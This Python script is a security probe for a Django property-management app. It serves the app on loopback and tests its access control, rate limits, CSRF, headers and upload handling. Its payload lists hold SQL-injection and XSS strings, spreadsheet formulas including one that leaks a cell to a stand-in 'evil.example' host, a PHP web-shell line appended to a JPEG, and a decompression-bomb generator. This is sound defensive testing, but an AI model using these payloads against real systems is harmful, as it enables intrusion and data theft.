"""A security probe across every surface of a served propdesk (docs/security.md, "The probe").

    python bench/probe.py            # prints a table and writes var/probe.json

Serves propdesk as production does (production settings, granian with 2 WSGI workers, the db_worker task
worker) on loopback with the demo data, an SMS gateway of its own (the probe receives the SMS texts the
product sends, as the real provider would) and a local SMTP server, then attacks it over HTTP:

- access control: every object of the other project (units, buildings, customers, occupancies, work
  orders, surveys, their photos) through the console and the API as staff of one project, the role-only
  pages as a cleaner, other households' requests as an owner in the portal;
- authentication and rate limits: password guessing on the console and the API, code guessing in the
  portal, session fixation;
- injection: SQL metacharacters in every search box and filter, script in stored names shown on the
  cards, spreadsheet formulas in stored text read back from every .xlsx export;
- uploads: SVG with script, HTML named .jpg, a decompression bomb, a PHP tail behind a JPEG, GPS in EXIF;
- oversized and malformed input: bodies past the limits, broken JSON and multipart, deep nesting, huge
  numbers, NUL bytes, invalid UTF-8;
- sensitive data at rest and in logs: the SMS codes the gateway received and the archive's ID numbers,
  searched for in the server's and worker's logs and in every column of the database;
- CSRF and headers: forms posted without a token or from a foreign origin; CSP, nosniff, frame, referrer
  and HSTS headers on every kind of page.

Each attempt is counted as held (the answer a careful reviewer expects) or failed (printed with its
details); the exit status is 1 when anything failed. The subcommand `facts` runs inside Django in a
subprocess with the server's environment; the orchestrator itself never imports Django.
"""

import argparse
import contextlib
import io
import json
import os
import re
import secrets
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from collections import defaultdict
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
BENCH = Path(__file__).resolve().parent
sys.path.insert(0, str(BENCH))
PASSWORD = "propdesk-demo"  # the demo logins' password (archive.demo_data)

# -- inside Django ------------------------------------------------------------------------------


def facts() -> dict:
    """Ground truth from the database: which ids belong to which project, owners' phones, clear IDs."""
    import django

    django.setup()
    from propdesk.archive.models import Customer, Occupancy
    from propdesk.org.models import Building, Project, Unit
    from propdesk.service.models import Attachment, WorkOrder
    from propdesk.surveys.models import Survey

    projects = {p.code: p.pk for p in Project.objects.all()}
    other = projects["techpark"]

    def ids(qs, path="project_id", n=40):
        return list(qs.filter(**{path: other}).order_by("?").values_list("pk", flat=True)[:n])

    owner = (Occupancy.objects.current().filter(role="owner", unit__project_id=projects["sunshine"],
                                                customer__phones__number__startswith="1")
             .select_related("customer", "unit").order_by("pk").first())
    own_units = set(Occupancy.objects.current().filter(customer=owner.customer).values_list("unit_id", flat=True))
    clear_ids = [c.id_number for c in Customer.objects.exclude(id_number_hash="").order_by("pk")[:300]
                 if c.id_number]
    return {
        "projects": projects,
        "other": {
            "units": ids(Unit.objects), "buildings": ids(Building.objects), "customers": ids(Customer.objects),
            "occupancies": ids(Occupancy.objects, "unit__project_id"), "work_orders": ids(WorkOrder.objects),
            "surveys": ids(Survey.objects), "photos": list(Attachment.objects.filter(
                work_order__project_id=other).values_list("work_order_id", "pk")[:10]),
        },
        "owner_phone": owner.customer.phones.values_list("number", flat=True).first(),
        "foreign_requests": list(WorkOrder.objects.exclude(unit_id__in=own_units).exclude(
            requester=owner.customer).order_by("?").values_list("pk", flat=True)[:40]),
        "clear_ids": clear_ids,
        "sunshine_survey": Survey.objects.filter(project_id=projects["sunshine"]).values_list("pk", flat=True).first(),
    }


def database_text() -> str:
    import django

    django.setup()
    from django.db import connection

    parts = []
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names(cursor):
            cols = [c.name for c in connection.introspection.get_table_description(cursor, table)]
            cursor.execute(f"SELECT {', '.join(connection.ops.quote_name(c) for c in cols)} "  # noqa: S608
                           f"FROM {connection.ops.quote_name(table)}")
            parts.extend(str(v) for row in cursor.fetchall() for v in row)
    return "\n".join(parts)


# -- the orchestrator ---------------------------------------------------------------------------


class Gateway(BaseHTTPRequestHandler):
    """The SMS provider: keeps what it is asked to send, answers with a message id."""

    received: list = []

    def do_POST(self):  # noqa: N802
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        Gateway.received.append(body)
        answer = json.dumps({"message_id": secrets.token_hex(6)}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    def log_message(self, *args):
        pass


class Tally:
    def __init__(self):
        self.counts = defaultdict(lambda: [0, 0])
        self.failures = []

    def check(self, area: str, ok: bool, what: str):
        self.counts[area][0 if ok else 1] += 1
        if not ok:
            self.failures.append(f"{area}: {what}")
        return ok


class Client:
    """A browser-like session: cookies kept although the site marks them Secure (plain HTTP on loopback,
    with X-Forwarded-Proto: https as the TLS-terminating proxy sends)."""

    def __init__(self, base: str):
        import requests

        self.base = base
        self.s = requests.Session()
        self.s.headers["X-Forwarded-Proto"] = "https"

    def _unsecure(self):
        for cookie in self.s.cookies:
            cookie.secure = False

    def get(self, path, **kw):
        r = self.s.get(self.base + path, allow_redirects=False, timeout=60, **kw)
        self._unsecure()
        return r

    def post(self, path, **kw):
        headers = {"Referer": self.base + "/", "Origin": self.base.replace("http://", "https://"),
                   **kw.pop("headers", {})}
        token = self.s.cookies.get("csrftoken")
        if kw.pop("csrf", True) and token:
            headers.setdefault("X-CSRFToken", token)
        r = self.s.post(self.base + path, allow_redirects=False, timeout=120, headers=headers, **kw)
        self._unsecure()
        return r

    def csrf(self, path="/login/"):
        self.get(path)
        return self.s.cookies.get("csrftoken")

    def login(self, username: str, password: str = PASSWORD):
        self.csrf()
        return self.post("/login/", data={"username": username, "password": password})


def _env(work: Path, gateway_port: int, smtp_port: int) -> dict:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("DJANGO_", "DATABASE_URL"))}
    env.update({
        "DJANGO_SETTINGS_MODULE": "propdesk.settings.prod", "PYTHONPATH": str(ROOT / "src"),
        "SECRET_KEY": secrets.token_urlsafe(60), "PROPDESK_DATA_KEY": secrets.token_urlsafe(48),
        "ALLOWED_HOSTS": "127.0.0.1", "PROPDESK_VAR": str(work), "SECURE_SSL_REDIRECT": "0",
        "EMAIL_HOST": "127.0.0.1", "EMAIL_PORT": str(smtp_port),
        "NOTIFY_SMS_BACKEND": "propdesk.notify.backends.HttpSmsBackend",
        "NOTIFY_SMS_HTTP_URL": f"http://127.0.0.1:{gateway_port}/send", "NOTIFY_SMS_HTTP_ACCOUNT": "probe",
        "NOTIFY_SMS_HTTP_SECRET": secrets.token_hex(16),
    })
    return env


def _manage(env, *args, log=None):
    subprocess.run([sys.executable, str(ROOT / "manage.py"), *args], env=env, cwd=ROOT, check=True,
                   stdout=log or subprocess.DEVNULL, stderr=subprocess.STDOUT, timeout=600)


def _inside(env, what: str):
    out = subprocess.run([sys.executable, __file__, what], env=env, cwd=ROOT, capture_output=True, timeout=300)
    if out.returncode:
        raise RuntimeError(f"probe.py {what} failed:\n{out.stderr.decode(errors='replace')[-3000:]}")
    return json.loads(out.stdout)


def _png(size=(40, 30)) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", size, (10, 90, 160)).save(out, "PNG")
    return out.getvalue()


def _jpeg_with_gps() -> bytes:
    from PIL import Image

    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (22.0, 32.0, 10.0), 3: "E", 4: (113.0, 56.0, 5.0)}
    out = io.BytesIO()
    Image.new("RGB", (60, 40), (200, 30, 30)).save(out, "JPEG", exif=exif)
    return out.getvalue()


def _bomb_png(side=9000) -> bytes:
    import struct
    import zlib

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00" * ((side + 1) * side), 9)) + chunk(b"IEND", b""))


def _no_formula(data: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return not any(re.search(rb"<f[ >]", z.read(n)) for n in z.namelist() if n.startswith("xl/worksheets/"))


SQL = ["' OR '1'='1", "1' OR 1=1--", "'; DROP TABLE org_unit;--", "\" OR \"\"=\"", "1) UNION SELECT password FROM org_user--",
       "%", "_", "\\", "%%'--", "3-2-1201' AND SLEEP(5)--", "王' OR 1=1 --", "' || pg_sleep(5) --",
       "1; SELECT * FROM pg_user", "') OR ('x'='x", "*/ OR /*"]
XSS = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
       "<svg onload=alert(1)>", "'-alert(1)-'"]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-2+3"]


def probe(base: str, env: dict, logs: list[Path]) -> Tally:  # noqa: C901 — one battery after another
    t = Tally()
    f = _inside(env, "facts")
    other = f["other"]

    # -- access control ----------------------------------------------------------------------
    desk = Client(base)
    t.check("authentication", desk.login("desk").status_code == 302, "desk could not sign in")
    api_paths = {"units": "/api/v1/units/{}", "buildings": "/api/v1/buildings/{}", "customers": "/api/v1/customers/{}",
                 "occupancies": "/api/v1/occupancies/{}", "work_orders": "/api/v1/work-orders/{}"}
    page_paths = {"units": "/units/{}/", "buildings": "/buildings/{}/", "customers": "/customers/{}/",
                  "work_orders": "/work-orders/{}/", "surveys": "/surveys/{}/"}
    for kind, pks in other.items():
        for pk in pks if kind != "photos" else []:
            for template in filter(None, [api_paths.get(kind), page_paths.get(kind)]):
                r = desk.get(template.format(pk))
                t.check("access control", r.status_code in (403, 404), f"desk GET {template.format(pk)} → {r.status_code}")
    for wo, photo in other["photos"]:
        r = desk.get(f"/work-orders/{wo}/photos/{photo}/")
        t.check("access control", r.status_code == 404, f"desk photo {wo}/{photo} → {r.status_code}")
    for pk in other["work_orders"][:10]:
        r = desk.post(f"/api/v1/work-orders/{pk}/transitions", json={"action": "cancel", "version": 1, "note": "x"})
        t.check("access control", r.status_code in (403, 404), f"desk cancel {pk} → {r.status_code}")
        r = desk.post(f"/work-orders/{pk}/note/", data={"text": "probe"})
        t.check("access control", r.status_code in (403, 404), f"desk note {pk} → {r.status_code}")
    cleaner = Client(base)
    cleaner.login("cleaner")
    sunshine = f["projects"]["sunshine"]
    for path in ("/audit/", "/notifications/?tab=outbox"):
        r = cleaner.get(path)
        t.check("access control", r.status_code == 403, f"cleaner GET {path} → {r.status_code}")
    for path, data in ((f"/projects/{sunshine}/export/", {"reveal_ids": "on"}),
                       (f"/customers/{other['customers'][0]}/reveal-id/", {})):
        r = cleaner.post(path, data=data)
        t.check("access control", r.status_code in (403, 404), f"cleaner POST {path} → {r.status_code}")
    r = cleaner.post(f"/customers/{other['customers'][0]}/edit/", data={"name": "改名", "phones": ""})
    t.check("access control", r.status_code in (403, 404), f"cleaner edits a customer → {r.status_code}")
    for path in ("/", "/work-orders/", "/api/v1/work-orders", "/admin/"):
        r = Client(base).get(path)
        t.check("access control", r.status_code in (302, 401), f"anonymous GET {path} → {r.status_code}")

    # the portal: an owner signs in with the code the gateway received, then reaches for the neighbours'
    owner = Client(base)
    owner.get("/portal/login/")
    owner.post("/portal/login/", data={"phone": f["owner_phone"]})
    code = _wait_for_code(f["owner_phone"])
    t.check("authentication", code is not None, "no sign-in code reached the gateway")
    r = owner.post("/portal/login/", data={"phone": f["owner_phone"], "code": code})
    t.check("authentication", r.status_code == 302, f"owner sign-in → {r.status_code}")
    for pk in f["foreign_requests"]:
        r = owner.get(f"/portal/requests/{pk}/")
        t.check("access control", r.status_code == 404, f"owner GET request {pk} → {r.status_code}")
    for path in ("/work-orders/", "/api/v1/units"):
        r = owner.get(path)
        t.check("access control", r.status_code in (302, 401, 403), f"owner session GET {path} → {r.status_code}")

    # -- authentication and rate limits -----------------------------------------------------
    guesser = Client(base)
    guesser.csrf()
    codes = [guesser.post("/login/", data={"username": "butler", "password": f"guess-{i}"}).status_code
             for i in range(12)]
    t.check("authentication", all(c == 200 for c in codes), f"wrong passwords answered {codes}")
    right = guesser.post("/login/", data={"username": "butler", "password": PASSWORD})
    t.check("authentication", right.status_code == 200, "the right password got through after 12 guesses")
    tokens = [Client(base).post("/api/v1/auth/token", json={"username": "guard", "password": f"x{i}"}, csrf=False).status_code
              for i in range(12)]
    t.check("authentication", tokens[-1] == 429 and set(tokens) <= {401, 429}, f"API token guesses → {tokens}")
    other_owner = Client(base)
    other_owner.get("/portal/login/")
    other_owner.post("/portal/login/", data={"phone": f["owner_phone"]})  # within the minute: refused
    tries = [other_owner.post("/portal/login/", data={"phone": f["owner_phone"], "code": f"{i:06d}"}).status_code
             for i in range(7)]
    t.check("authentication", all(c == 200 for c in tries), f"code guesses → {tries}")
    before = desk.s.cookies.get("sessionid")
    fixation = Client(base)
    fixation.s.cookies.set("sessionid", "attacker-chosen-session-key", domain="127.0.0.1", path="/")
    fixation.login("desk")
    keys = [c.value for c in fixation.s.cookies if c.name == "sessionid"]
    t.check("authentication", keys[-1] not in ("attacker-chosen-session-key", before),
            "the session key did not change at sign-in")

    # -- injection ---------------------------------------------------------------------------
    manager = Client(base)
    manager.login("manager")
    searches = ["/lookup/?q={}", "/faq/?q={}", "/work-orders/?q={}", "/api/v1/customers?name={}",
                "/api/v1/units?number={}", "/api/v1/customers?phone={}", "/review/?q={}", "/audit/?who={}"]
    admin = Client(base)
    admin.login("admin")
    for payload in SQL:
        for template in searches:
            client = admin if template.startswith("/audit") else manager
            r = client.get(template.format(payload))
            t.check("injection", r.status_code < 500, f"GET {template.format(payload)} → {r.status_code}")
    r = manager.get("/api/v1/customers?name=' OR '1'='1")
    t.check("injection", r.status_code == 200 and r.json()["count"] == 0, "an OR 1=1 filter returned rows")
    made = []
    for i, payload in enumerate(XSS + FORMULAS):
        r = desk.post("/api/v1/customers", json={"project": sunshine, "name": payload[:60], "phones": [f"1390000{i:04d}"]})
        t.check("injection", r.status_code == 201, f"creating customer {payload!r} → {r.status_code} {r.text[:120]}")
        if r.status_code == 201:
            made.append((r.json()["id"], payload[:60]))
    for pk, name in made:
        for path in (f"/customers/{pk}/", f"/lookup/?q={name[:10]}"):
            body = desk.get(path).text
            raw = name in body and any(c in name for c in "<>\"'")
            t.check("injection", not raw, f"{path} shows {name!r} unescaped")
    exports = {"archive": manager.post(f"/projects/{sunshine}/export/", data={}),
               "kpis": manager.get(f"/quality/export.xlsx?project={sunshine}"),
               "staff": manager.get(f"/quality/staff/export.xlsx?project={sunshine}")}
    if f["sunshine_survey"]:
        exports["survey"] = manager.get(f"/surveys/{f['sunshine_survey']}/export.xlsx")
    for name, r in exports.items():
        is_xlsx = r.status_code == 200 and r.content[:2] == b"PK"
        t.check("injection", is_xlsx and _no_formula(r.content), f"the {name} export holds a formula ({r.status_code})")

    # -- uploads -----------------------------------------------------------------------------
    owner.get("/portal/report/")
    uploads = {
        "svg": ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "image/svg+xml", False),
        "html as jpg": ("a.jpg", b"<html><script>alert(1)</script></html>", "image/jpeg", False),
        "bomb": ("bomb.png", _bomb_png(), "image/png", False),
        "gif": ("a.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "image/gif", False),
        "php tail": ("a.jpg", _jpeg_with_gps() + b"<?php system($_GET['c']); ?>", "image/jpeg", True),
        "gps": ("gps.jpg", _jpeg_with_gps(), "image/jpeg", True),
        "png": ("ok.png", _png(), "image/png", True),
    }
    for label, (name, data, ctype, accepted) in uploads.items():
        page = owner.get("/portal/report/").text
        key = re.search(r'name="idempotency_key" value="([^"]+)"', page)
        place = re.search(r'name="place" value="([^"]+)"[^>]*checked', page) or re.search(
            r'<option value="([^"]+)" selected', page) or re.search(r'name="place" value="([^"]+)"', page)
        r = owner.post("/portal/report/", data={"place": place.group(1) if place else "", "kind": "repair",
                                                "description": f"探测上传{label}",
                                                "idempotency_key": key.group(1) if key else secrets.token_hex(8)},
                       files={"photos": (name, data, ctype)})
        if not accepted:
            t.check("uploads", r.status_code == 200 and "探测上传" in r.text, f"{label} accepted ({r.status_code})")
            continue
        ok = r.status_code == 302
        if ok:
            detail = owner.get(r.headers["Location"]).text
            src = re.search(r'<img src="(/portal/requests/\d+/photos/\d+/)"', detail)
            stored = owner.get(src.group(1)).content if src else b""
            ok = stored[:2] == b"\xff\xd8" and b"Exif" not in stored and b"<?php" not in stored
        t.check("uploads", ok, f"{label}: not stored clean ({r.status_code})")

    # -- oversized and malformed input -------------------------------------------------------
    bodies = {
        "11 MB JSON": (b'{"description": "' + b"a" * (11 * 1024 * 1024) + b'"}', "application/json", {413}),
        "broken JSON": (b'{"project": 1,', "application/json", {400, 422}),
        "deep nesting": (b"[" * 100_000 + b"]" * 100_000, "application/json", {400, 422}),
        "huge number": (b'{"project": ' + b"9" * 5000 + b"}", "application/json", {400, 422}),
        "NUL byte": (b'{"project": 1, "kind": "repair_home", "channel": "hotline", "description": "a\\u0000b"}',
                     "application/json", {422}),
        "invalid UTF-8": (b'{"description": "\xff\xfe"}', "application/json", {400, 422}),
        "form as JSON": (b"project=1&kind=x", "application/x-www-form-urlencoded", {400, 422}),
        "broken multipart": (b"--x\r\nbroken", "multipart/form-data", {400}),
    }
    for label, (body, ctype, expected) in bodies.items():
        r = desk.post("/api/v1/work-orders", data=body, headers={"Content-Type": ctype})
        t.check("malformed input", r.status_code in expected and r.headers.get("Content-Type", "").startswith(
            "application/json"), f"{label} → {r.status_code} {r.text[:100]}")
    r = owner.post("/portal/report/", data={"description": "x"},
                   files={"photos": ("big.jpg", b"\xff\xd8" + b"0" * (70 * 1024 * 1024), "image/jpeg")})
    t.check("malformed input", r.status_code == 413, f"a 70 MB upload → {r.status_code}")
    r = desk.post("/work-orders/new/", data={"description": "漏" * (6 * 1024 * 1024)})
    t.check("malformed input", r.status_code == 413 and "过大" in r.text, f"a 18 MB form → {r.status_code}")
    r = desk.post("/work-orders/new/", data={f"f{i}": "x" for i in range(1500)})
    t.check("malformed input", r.status_code == 413, f"1,500 form fields → {r.status_code}")

    # -- CSRF and headers --------------------------------------------------------------------
    r = desk.post("/work-orders/new/", data={"description": "x"}, csrf=False)
    t.check("csrf and headers", r.status_code == 403, f"a form without a CSRF token → {r.status_code}")
    r = desk.post("/work-orders/new/", data={"description": "x"}, headers={"Origin": "https://evil.example"})
    t.check("csrf and headers", r.status_code == 403, f"a form from a foreign origin → {r.status_code}")
    r = owner.post("/portal/logout/", csrf=False)
    t.check("csrf and headers", r.status_code == 403, f"portal sign-out without a token → {r.status_code}")
    for client, path in ((desk, "/"), (desk, "/work-orders/"), (owner, "/portal/"), (desk, "/api/v1/projects"),
                         (Client(base), "/login/"), (Client(base), "/portal/login/"), (admin, "/admin/")):
        h = client.get(path).headers
        csp = h.get("Content-Security-Policy", "")
        ok = ("script-src 'self' 'nonce-" in csp or path.startswith("/api/")) and "unsafe-eval" not in csp
        ok = ok and h.get("X-Content-Type-Options") == "nosniff" and h.get("X-Frame-Options") == "DENY"
        ok = ok and h.get("Referrer-Policy") == "same-origin" and "max-age=31536000" in h.get("Strict-Transport-Security", "")
        t.check("csrf and headers", ok, f"headers of {path}: {dict(h)}")

    # -- sensitive data at rest and in logs ----------------------------------------------------
    time.sleep(2)  # let the worker deliver what is still queued
    sent_codes = [m for body in Gateway.received for m in re.findall(r"(?<!\d)(\d{6})(?!\d)", body["text"])]
    t.check("sensitive data", bool(sent_codes), "the gateway received no code")
    text = "\n".join(p.read_text(errors="replace") for p in logs if p.exists())
    database = subprocess.run([sys.executable, __file__, "dbtext"], env=env, cwd=ROOT, check=True,
                              capture_output=True, timeout=300).stdout.decode(errors="replace")
    for value in sent_codes:
        pattern = re.compile(rf"码为{value}|(?<![0-9A-Za-z]){value}(?![0-9A-Za-z])")
        t.check("sensitive data", not re.search(rf"码为{value}", text), f"code {value} in a log")
        t.check("sensitive data", not pattern.search(database), f"code {value} in the database")
    for value in f["clear_ids"]:
        t.check("sensitive data", value not in text and value not in database, f"ID {value[:4]}… in clear")
    return t


def _wait_for_code(phone: str, timeout: float = 20) -> str | None:
    deadline = time.time() + timeout
    while time.time() < deadline:
        for body in reversed(Gateway.received):
            if body["phone"] == phone and (m := re.search(r"(?<!\d)(\d{6})(?!\d)", body["text"])):
                return m.group(1)
        time.sleep(0.2)
    return None


def run() -> dict:
    from _serve import free_port, granian
    from aiosmtpd.controller import Controller

    work = Path(tempfile.mkdtemp(prefix="propdesk-probe-"))
    gateway = ThreadingHTTPServer(("127.0.0.1", 0), Gateway)
    threading.Thread(target=gateway.serve_forever, daemon=True).start()

    class Sink:
        async def handle_DATA(self, server, session, envelope):  # noqa: N802
            return "250 OK"

    smtp_port = free_port()
    smtp = Controller(Sink(), hostname="127.0.0.1", port=smtp_port)
    smtp.start()
    env = _env(work, gateway.server_address[1], smtp_port)
    setup_log = work / "setup.log"
    with open(setup_log, "wb") as log:
        for args in (("migrate", "--noinput"), ("createcachetable",), ("collectstatic", "--noinput"), ("load_demo",)):
            _manage(env, *args, log=log)
    worker_log, web_log = work / "worker.log", work / "web.log"
    worker = subprocess.Popen([sys.executable, str(ROOT / "manage.py"), "db_worker", "--queue-name", "*", "--no-reload"],
                              env=env, cwd=ROOT, stdout=open(worker_log, "wb"), stderr=subprocess.STDOUT)
    started = time.perf_counter()
    try:
        with granian("propdesk.wsgi:application", env, str(Path(sys.executable).with_name("granian")),
                     cwd=ROOT, log=web_log) as base:
            tally = probe(base, env, [web_log, worker_log])
    finally:
        worker.terminate()
        with contextlib.suppress(subprocess.TimeoutExpired):
            worker.wait(10)
        gateway.shutdown()
        smtp.stop()
    report = {"seconds": round(time.perf_counter() - started, 1),
              "areas": {a: {"attempts": h + f, "held": h, "failed": f} for a, (h, f) in tally.counts.items()},
              "failures": tally.failures, "work": str(work)}
    return report


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("what", nargs="?", default="run", choices=["run", "facts", "dbtext"])
    args = parser.parse_args(argv)
    if args.what == "facts":
        print(json.dumps(facts()))
        return 0
    if args.what == "dbtext":
        sys.stdout.write(database_text())
        return 0
    report = run()
    print(f"{'area':<20}{'attempts':>10}{'held':>8}{'failed':>8}")
    for area, c in report["areas"].items():
        print(f"{area:<20}{c['attempts']:>10}{c['held']:>8}{c['failed']:>8}")
    for failure in report["failures"]:
        print("FAILED", failure[:400])
    print(f"({report['seconds']} s; server files in {report['work']})")
    out = ROOT / "var" / "probe.json"
    out.parent.mkdir(exist_ok=True)
    out.write_text(json.dumps(report, ensure_ascii=False, indent=2))
    return 1 if report["failures"] else 0


if __name__ == "__main__":
    sys.exit(main())
